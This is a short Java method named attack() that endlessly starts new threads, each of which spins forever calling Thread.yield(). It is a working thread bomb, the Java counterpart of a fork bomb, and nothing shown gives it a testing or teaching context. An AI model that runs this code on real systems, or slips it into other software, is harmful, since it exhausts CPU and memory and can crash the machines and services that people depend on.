    static void attack() {
        while (true) {
            new Thread(() -> {
                while (true) {
                    Thread.yield();
                }
            }).start();
        }
    }
